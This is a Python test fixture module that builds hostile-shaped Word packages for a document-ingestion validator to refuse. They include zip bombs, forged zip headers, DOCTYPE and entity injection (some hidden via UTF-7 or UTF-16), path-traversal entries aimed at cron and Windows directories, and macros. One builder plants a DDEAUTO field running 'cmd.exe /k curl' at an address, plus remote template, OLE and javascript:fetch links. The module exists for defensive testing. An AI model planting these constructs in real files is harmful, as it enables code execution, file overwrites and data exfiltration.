"""Word files of the kinds that could do harm, by what they try; these are harmless, and refused."""

from __future__ import annotations

import struct
from io import BytesIO
from zipfile import ZIP_BZIP2, ZIP_DEFLATED, ZipFile

from tests.minutes.incoming.packages import (
    MAIN_TYPE,
    TYPES,
    field,
    package,
    paragraph,
    relations_of,
    run,
)

MEGABYTE = 2**20
TEXT = paragraph("Un PV.")
PLAIN = package(TEXT)
DOCTYPE = "<!DOCTYPE w:document>"
UTF_7 = '<?xml version="1.0" encoding="UTF-7"?>'
ELSEWHERE = '<!DOCTYPE w:document SYSTEM "a.dtd">'
ENTITY = '<!DOCTYPE w:document [<!ENTITY f "f">]>'
CENTRAL, LOCAL = b"PK\x01\x02", b"PK\x03\x04"


def with_entries(
    *added: tuple[str, bytes | str], content: bytes = PLAIN, method: int = ZIP_DEFLATED
) -> bytes:
    """More entries at the end of a package; a name may come again."""
    buffer = BytesIO(content)
    with ZipFile(buffer, "a", method, compresslevel=1) as archive:
        for name, data in added:
            archive.writestr(name, data)
    return buffer.getvalue()


def with_doctype(declaration: str, name: str = "word/document.xml", coding: str = "utf-8") -> bytes:
    """A package of which one part begins with a declaration."""
    with ZipFile(BytesIO(PLAIN)) as source:
        parts = {entry: source.read(entry) for entry in source.namelist()}
    parts[name] = f"{declaration}{parts[name].decode()}".encode(coding)
    return with_entries(*parts.items(), content=b"")


def patched(content: bytes, place: int, form: str, value: int) -> bytes:
    """A number written over in every header of the central directory."""
    found = bytearray(content)
    start = found.find(CENTRAL)
    while start >= 0:
        struct.pack_into(form, found, start + place, value)
        start = found.find(CENTRAL, start + 4)
    return bytes(found)


def nested(tag: str, depth: int) -> str:
    return f"<{tag}>" * depth + TEXT + f"</{tag}>" * depth


REFUSED: dict[str, bytes] = {
    "more than ten megabytes": LOCAL + bytes(10 * MEGABYTE),
    "half a megabyte of zeros": with_entries(("word/media/a.bin", bytes(MEGABYTE // 2))),
    "two thousand entries": with_entries(*((f"a/{rank}", b"") for rank in range(2_000))),
    "sizes that say too much": patched(PLAIN, 24, "<I", 2**32 - 2),
    "sizes that say too little": patched(PLAIN, 24, "<I", 12),
    "one content for all names": patched(PLAIN, 42, "<I", 0),
    "a DOCTYPE": with_doctype(DOCTYPE),
    "a DOCTYPE in the styles": with_doctype(DOCTYPE, "word/styles.xml"),
    "a DOCTYPE in the relations": with_doctype(DOCTYPE, "_rels/.rels"),
    "a DOCTYPE in the types": with_doctype(DOCTYPE, "[Content_Types].xml"),
    "a DOCTYPE in UTF-16": with_doctype(DOCTYPE, coding="utf-16"),
    "a DOCTYPE in UTF-16 without a mark": with_doctype(DOCTYPE, coding="utf-16-le"),
    "a DOCTYPE in UTF-7": with_doctype(UTF_7 + DOCTYPE.replace("<!", "+ADwAIQ-")),
    "a DTD elsewhere": with_doctype(ELSEWHERE),
    "an entity": with_doctype(ENTITY),
    "a way up": with_entries(("../../etc/cron.d/a", "*")),
    "a way up inside": with_entries(("word/../../a", "*")),
    "an absolute path": with_entries(("/etc/cron.d/a", "*")),
    "a path of Windows": with_entries(("C:\\Windows\\a.dll", "*")),
    "another path of Windows": with_entries(("word\\..\\..\\a.dll", "*")),
    "macros": with_entries(("word/vbaProject.bin", "*")),
    "macros by type": package(TEXT, main_type="application/vnd.ms-word.document.macroEnabled.main"),
    "a template": package(TEXT, main_type=MAIN_TYPE.replace("document.main", "../main")),
    "another text merged": package(
        f'{TEXT}<w:altChunk r:id="a"/>', {"a": ("aFChunk", "a.html")}, {"word/a.html": "<p>a</p>"}
    ),
    "another text elsewhere": package(
        f'{TEXT}<w:altChunk r:id="a"/>', {"a": ("aFChunk", "http://127.0.0.1:9/a.docx")}
    ),
    "a master of other texts": package(TEXT, {"a": ("subDocument", "file:///srv/a.docx")}),
    "a password": patched(PLAIN, 8, "<H", 1),
    "packed otherwise": with_entries(("word/a.xml", "<a/>"), method=ZIP_BZIP2),
    "a workbook": package(TEXT, main_type=TYPES.replace("wordprocessingml", "spreadsheetml")),
    "another zip": with_entries(("a.txt", "PV"), content=b""),
    "an old .doc": bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600),
    "a PDF": b"%PDF-1.7\n",
    "nothing": b"",
    "half a file": PLAIN[: len(PLAIN) // 2],
    "tags in three hundred tags": package(nested("w:sdt", 300)),
    "empty": package(""),
}


def leading_to(address: str) -> bytes:
    """A text that asks its reader to fetch from `address` in every way a .docx can, and to run."""
    picture = '<w:r><w:drawing><pic:pic><a:blip r:link="image"/></pic:pic></w:drawing></w:r>'
    sheet = '<w:object><v:imagedata r:id="image"/><o:OLEObject Type="Link" r:id="ole"/></w:object>'
    fields = (
        field(f'INCLUDETEXT "{address}/a.docx"', "Repris ")
        + field(f'DDEAUTO c:\\\\windows\\\\cmd.exe "/k curl {address}"', "d'ailleurs")
        + field(f'INCLUDEPICTURE "{address}/a.png" \\d', ".")
    )
    link = '<w:hyperlink r:id="{}">{}</w:hyperlink>'
    links = f"{link.format('share', run('Un partage'))}{run(', ')}"
    end = '<w:sectPr><w:headerReference r:id="header"/></w:sectPr>'
    return package(
        paragraph(f"{run('Vu')}{picture}<w:r>{sheet}</w:r>")
        + paragraph(fields)
        + paragraph(f"{links}{link.format('script', run('un script.'))}")
        + paragraph("Fin.")
        + end,
        {
            "image": ("image", f"{address}/a.png"),
            "ole": ("oleObject", f"{address}/a.xlsx"),
            "share": ("hyperlink", "file://127.0.0.1/partage/a.docx"),
            "script": ("hyperlink", "javascript:fetch('http://127.0.0.1')"),
            "header": ("header", f"{address}/header.xml"),
            "styles": ("styles", f"{address}/styles.xml"),
            "settings": ("settings", "settings.xml"),
            "frame": ("frame", f"{address}/frame.htm"),
        },
        {
            "word/settings.xml": '<w:settings xmlns:w="w"><w:attachedTemplate/></w:settings>',
            "word/_rels/settings.xml.rels": relations_of(
                {"t": ("attachedTemplate", f"{address}/a.dotm")}
            ),
            "word/embeddings/oleObject1.bin": b"MZ",
        },
    )
